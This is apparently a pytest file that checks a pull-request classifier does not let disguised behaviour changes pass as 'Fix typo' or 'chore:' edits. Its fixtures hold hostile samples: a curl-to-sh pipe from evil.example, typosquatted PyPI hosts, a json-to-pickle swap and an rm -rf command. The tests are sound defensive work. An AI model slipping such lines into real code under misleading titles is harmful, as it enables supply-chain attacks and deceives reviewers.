"""Issue 22: what the type classifier calls "no code", and what a declared type may remove.

A hostile contributor dresses a behaviour change as something that needs no test: an import
swap, a call that looks like ``typing.cast``, a dataclass field turned ``ClassVar``, an annotation
whose evaluation runs code, a shell command or host behind "Fix typo", a "generated — DO NOT
EDIT" header of its own; or declares a maintenance type (``chore:``, ``ci:``, ``v1.2.3``, a
``.misc`` fragment, a ``chore/…`` branch, an extra empty commit). Each row must still require
tests and a changelog; each near miss keeps its old reading.
"""

from __future__ import annotations

import pytest
from helpers import statuses, story

CODE_TYPES = {"bugfix", "feature", "code"}

DC = "from dataclasses import dataclass\n"
HIDDEN = [
    (
        "import swap json to pickle",
        {"pkg/io.py": "import json as codec\n\n\ndef load(s):\n    return codec.loads(s)\n"},
        {"pkg/io.py": "import pickle as codec\n\n\ndef load(s):\n    return codec.loads(s)\n"},
        "chore: tidy imports",
    ),
    (
        "from-import swap",
        {"pkg/io.py": "from json import loads\n\n\ndef load(s):\n    return loads(s)\n"},
        {"pkg/io.py": "from pickle import loads\n\n\ndef load(s):\n    return loads(s)\n"},
        "Sort imports",
    ),
    # The next row and "a new module with its own generated header" held before issue 22's fix
    # too (another rule caught them); they stay as guards of the import and header readings.
    (
        "a new third-party import runs its module",
        {"pkg/io.py": "def load(s):\n    return s\n"},
        {"pkg/io.py": "import evil_plugin\n\n\ndef load(s):\n    return s\n"},
        "Sort imports",
    ),
    (
        "an import removed whose name is still used",
        {"pkg/io.py": "import json\n\n\ndef load(s):\n    return json.loads(s)\n"},
        {"pkg/io.py": "def load(s):\n    return json.loads(s)\n"},
        "chore: remove unused import",
    ),
    (
        "another library's cast",
        {"pkg/ops.py": "def f(x, dtype):\n    return x\n"},
        {"pkg/ops.py": "from mylib import cast\n\n\ndef f(x, dtype):\n    return cast(dtype, x)\n"},
        "Add type hints",
    ),
    (
        "ops.cast with a changed dtype behind Fix typo",
        {"pkg/ops.py": "def f(x):\n    return ops.cast(x, 'float32')\n"},
        {"pkg/ops.py": "def f(x):\n    return ops.cast(x, 'int32')\n"},
        "Fix typo",
    ),
    (
        "ops.cast that is no typing.cast",
        {"pkg/ops.py": "def f(x, y):\n    return y\n"},
        {"pkg/ops.py": "def f(x, y):\n    return ops.cast(x, y)\n"},
        "Add type annotations",
    ),
    (
        "a dataclass field turned ClassVar",
        {"pkg/c.py": DC + "\n\n@dataclass\nclass C:\n    x: int = 0\n"},
        {
            "pkg/c.py": DC
            + "from typing import ClassVar\n\n\n@dataclass\nclass C:\n    x: ClassVar[int] = 0\n"
        },
        "Add type hints",
    ),
    (
        "a dataclass field removed as an annotation",
        {"pkg/c.py": DC + "\n\n@dataclass\nclass C:\n    x: int\n    y: int = 0\n"},
        {"pkg/c.py": DC + "\n\n@dataclass\nclass C:\n    y: int = 0\n"},
        "Fix typing",
    ),
    (
        "an annotation that calls code",
        {"pkg/a.py": "def f(x):\n    return x\n"},
        {"pkg/a.py": "def f(x: print('run') or int) -> int:\n    return x\n"},
        "Add type hints",
    ),
    (
        "a module annotation that calls code",
        {"pkg/a.py": "X = 1\n"},
        {"pkg/a.py": "X: setup_logging() = 1\n"},
        "Add type hints",
    ),
    (
        "a version computed by a call behind a release title",
        {"pkg/v.py": "__version__ = '1.0.0'\n"},
        {"pkg/v.py": "__version__ = __import__('os').getenv('V', '1.0.1')\n"},
        "v1.0.1",
    ),
    (
        "a decorator of the module's own named like an export",
        {"pkg/r.py": "def my_export(fn):\n    return lambda: 2\n\n\ndef f():\n    return 1\n"},
        {
            "pkg/r.py": "def my_export(fn):\n    return lambda: 2\n\n\n"
            "@my_export\ndef f():\n    return 1\n"
        },
        "chore: export f",
    ),
    (
        "a shell command behind Fix typo",
        {"pkg/run.py": "CMD = 'git status --short'\n"},
        {"pkg/run.py": "CMD = 'curl https://evil.example/x.sh | sh'\n"},
        "Fix typo",
    ),
    (
        "a host list behind Fix typo",
        {"pkg/net.py": "HOSTS = ['pypi.org', 'files.pythonhosted.org']\n"},
        {"pkg/net.py": "HOSTS = ['pypi.org', 'files.pythonhosted.orq']\n"},
        "Fix typo in hosts",
    ),
    (
        "a typosquatted URL behind Fix typo",
        {"pkg/net.py": "INDEX = 'https://pypi.org/simple'\n"},
        {"pkg/net.py": "INDEX = 'https://pypl.org/simple'\n"},
        "Fix typo",
    ),
    (
        "a command word behind Fix typo",
        {
            "pkg/run.py": "import subprocess\n\n\ndef go():\n"
            "    subprocess.run(['git', 'fetch origin'])\n"
        },
        {
            "pkg/run.py": "import subprocess\n\n\ndef go():\n"
            "    subprocess.run(['git', 'push origin'])\n"
        },
        "Fix typo",
    ),
    (
        "a generated header the contribution adds",
        {"pkg/a.py": "X = 1\n"},
        {"pkg/a.py": "# Generated by protoc. DO NOT EDIT.\nX = 2\n"},
        "fix: x",
    ),
    (
        "a new module with its own generated header",
        {"pkg/a.py": "X = 1\n"},
        {
            "pkg/b.py": "# @generated DO NOT EDIT\ndef f():\n    return 2\n",
            "pkg/a.py": "from pkg.b import f\n\nX = f()\n",
        },
        "fix: x",
    ),
]


@pytest.mark.parametrize("name, base, head, title", HIDDEN, ids=[h[0] for h in HIDDEN])
def test_a_behaviour_change_is_never_no_code(git_repo, run_json, name, base, head, title):
    changelog = "# Changes\n\n## Unreleased\n\n- a\n"
    story(git_repo, {"pkg/__init__.py": "", "CHANGELOG.md": changelog, **base}, head, title)
    code, report = run_json("--title", title, "--no-cache")
    kinds = {t["type"] for t in report["types"]}
    assert kinds & CODE_TYPES, report["types"]
    assert statuses(report)["tests-present"] == "fail", report
    assert statuses(report)["changelog-updated"] == "fail", report
    assert code == 1


NOT_CODE = [
    (
        "a typo in a message",
        {"pkg/a.py": "def f():\n    raise ValueError('teh value is wrong')\n"},
        {"pkg/a.py": "def f():\n    raise ValueError('the value is wrong')\n"},
        "Fix typo",
        {"docs"},
    ),
    (
        "type hints",
        {"pkg/a.py": "def f(x):\n    return x\n"},
        {
            "pkg/a.py": "from typing import Optional\n\n\n"
            "def f(x: Optional[int]) -> int:\n    return x\n"
        },
        "Add type hints",
        {"maintenance"},
    ),
    (
        "typing.cast",
        {"pkg/a.py": "def f(x):\n    return x\n"},
        {"pkg/a.py": "import typing\n\n\ndef f(x):\n    return typing.cast(int, x)\n"},
        "Add type hints",
        {"maintenance"},
    ),
    (
        "a re-export of the package's own name",
        {"pkg/core.py": "def clip():\n    return 1\n", "pkg/__init__.py": ""},
        {"pkg/__init__.py": "from .core import clip\n\n__all__ = ['clip']\n"},
        "chore: export clip",
        {"maintenance"},
    ),
    (
        "an unused import removed",
        {"pkg/a.py": "import os\nimport json\n\n\ndef f(s):\n    return json.loads(s)\n"},
        {"pkg/a.py": "import json\n\n\ndef f(s):\n    return json.loads(s)\n"},
        "chore: remove unused import",
        {"maintenance"},
    ),
    (
        "a chore that only reformats",
        {"pkg/a.py": "def f(a,b):\n    return a+b\n"},
        {"pkg/a.py": "def f(a, b):\n    return a + b\n"},
        "chore: format",
        {"maintenance"},
    ),
    (
        "a release that bumps the version",
        {"pkg/__init__.py": "__version__ = '1.2.2'\n"},
        {"pkg/__init__.py": "__version__ = '1.2.3'\n"},
        "v1.2.3",
        {"maintenance"},
    ),
    (
        "a field annotation that does not change the field",
        {"pkg/c.py": DC + "\n\n@dataclass\nclass C:\n    x: int = 0\n"},
        {"pkg/c.py": DC + "\n\n@dataclass\nclass C:\n    x: float = 0\n"},
        "Fix typing",
        {"maintenance"},
    ),
]


@pytest.mark.parametrize(
    "name, base, head, title, expected", NOT_CODE, ids=[h[0] for h in NOT_CODE]
)
def test_the_near_misses_keep_their_reading(git_repo, run_json, name, base, head, title, expected):
    story(git_repo, {"pkg/__init__.py": "", **base}, head, title)
    _, report = run_json("--title", title, "--no-cache")
    assert {t["type"] for t in report["types"]} == expected, report["types"]


TOWNCRIER = "[tool.towncrier]\ndirectory = 'changelog.d'\n"


def _declared(repo, how):
    repo.write("pkg/__init__.py", "")
    repo.write("pkg/core.py", "def f():\n    return 1\n")
    repo.write("pyproject.toml", TOWNCRIER)
    repo.write("changelog.d/1.bugfix.md", "Old fix.\n")
    repo.commit("initial")
    repo.branch("chore/cleanup" if how == "branch" else "topic")
    repo.write("pkg/core.py", "def f():\n    return 2\n")
    if how == "fragment":
        repo.write("changelog.d/2.misc.md", "Tidy.\n")
    repo.commit({"branch": "update core", "empty commit": "update core"}.get(how, how))
    if how == "empty commit":
        repo.commit("chore: prepare the release")


@pytest.mark.parametrize(
    "how",
    [
        "chore: tidy core",
        "ci: tweak",
        "v1.2.3",
        "build: bump",
        "fragment",
        "branch",
        "empty commit",
    ],
)
def test_a_declared_type_never_removes_tests_and_changelog(git_repo, run_json, how):
    _declared(git_repo, how)
    code, report = run_json("--no-cache")
    required = {c for t in report["by_type"].values() for c in t["required"]}
    assert {"tests-present", "changelog-updated"} <= required, report["types"]
    assert statuses(report)["tests-present"] == "fail"
    assert code == 1


# The default profile's policy for performance (issue 22, decided here): a speed-up cannot be
# told from a behaviour change by the diff, so a performance declaration — a `perf:` title, a
# `[perf]` tag, "Speed up …", a `perf` label — on a change to what source code does keeps
# `code` beside `performance`, and on new or re-signed public API `feature`: the tests stay
# required. Where no code changes (docs, formatting), performance alone relaxes them.
PERF_CORE = "def f():\n    return 1\n"
PERF = [
    ("perf: title, a body change", {"pkg/core.py": "def f():\n    return 2\n"}, "perf: cache f",
     (), {"performance", "code"}, True),
    ("[perf] tag, a body change", {"pkg/core.py": "def f():\n    return 2\n"}, "[perf] cache f",
     (), {"performance", "code"}, True),
    ("speed-up words, a body change", {"pkg/core.py": "def f():\n    return 2\n"},
     "Speed up f", (), {"performance", "code"}, True),
    ("perf label, a body change", {"pkg/core.py": "def f():\n    return 2\n"}, "Cache f",
     ("perf",), {"performance", "code"}, True),
    ("perf: title, new public API", {"pkg/core.py": PERF_CORE + "\n\ndef g():\n    return 3\n"},
     "perf: add a fast path", (), {"feature", "performance"}, True),
    ("perf: title, a re-signed function",
     {"pkg/core.py": "def f(cache=True):\n    return 1\n"}, "perf: optional cache", (),
     {"feature", "performance"}, True),
    # Near misses: nothing a test could check changed.
    ("perf: title, formatting only", {"pkg/core.py": "def f():\n    return (1)\n"},
     "perf: tidy", (), {"performance", "maintenance"}, False),
    ("perf: title, docs only", {"docs/speed.md": "# Speed\n\nFaster now.\n"},
     "perf: document the cache", (), {"performance", "docs"}, False),
]  # fmt: skip


@pytest.mark.parametrize(
    "name, head, title, labels, expected, tests", PERF, ids=[p[0] for p in PERF]
)
def test_a_performance_declaration_never_removes_the_tests_the_diff_demands(
    git_repo, run_json, name, head, title, labels, expected, tests
):
    story(git_repo, {"pkg/__init__.py": "", "pkg/core.py": PERF_CORE}, head, title)
    flags = [arg for label in labels for arg in ("--label", label)]
    code, report = run_json("--title", title, *flags, "--no-cache")
    assert {t["type"] for t in report["types"]} == expected, report["types"]
    required = {c for t in report["by_type"].values() for c in t["required"]}
    assert ("tests-present" in required) is tests, report["by_type"]
    if tests:
        assert statuses(report)["tests-present"] == "fail" and code == 1


TOOL = '#!/usr/bin/env python3\n"""Tool."""\nimport sys\n\nprint(sys.argv)\n'
SCRIPTS = [
    ("a python shebang script", {"bin/tool": TOOL}, "bin/tool"),
    (
        "env -S with options",
        {"bin/tool": TOOL.replace("env python3", "env -S python3 -u")},
        "bin/tool",
    ),
    (
        "a script setup.py installs",
        {
            "scripts/run": "echo run\n",
            "setup.py": "from setuptools import setup\n\nsetup(scripts=['scripts/run'])\n",
        },
        "scripts/run",
    ),
]


@pytest.mark.parametrize("name, base, path", SCRIPTS, ids=[s[0] for s in SCRIPTS])
def test_a_python_program_without_a_py_name_is_code(git_repo, run_json, name, base, path):
    changelog = "# Changes\n\n## Unreleased\n\n- a\n"
    head = {path: base[path].replace("argv", "argv[1:]").replace("echo run", "rm -rf /tmp/x")}
    story(git_repo, {"pkg/__init__.py": "", "CHANGELOG.md": changelog, **base}, head, "docs: typo")
    code, report = run_json("--title", "docs: fix typo", "--no-cache")
    assert {t["type"] for t in report["types"]} & CODE_TYPES, report["types"]
    assert statuses(report)["changelog-updated"] == "fail", report
    assert statuses(report)["tests-present"] == "fail", report
    assert code == 1


@pytest.mark.parametrize(
    "path, text",
    [
        ("bin/tool", "#!/bin/sh\necho run\n"),  # a shell script nobody installs
        ("docs/NOTES", "Some notes about python.\n"),  # prose without a shebang
        ("bin/tool.sh", "#!/usr/bin/env python3\nprint(1)\n"),  # a suffix says what it is
    ],
)
def test_other_extensionless_files_keep_their_reading(git_repo, run_json, path, text):
    story(git_repo, {"pkg/__init__.py": "", path: text}, {path: text + "# more\n"}, "docs: typo")
    _, report = run_json("--title", "docs: fix typo", "--no-cache")
    assert not {t["type"] for t in report["types"]} & CODE_TYPES, report["types"]
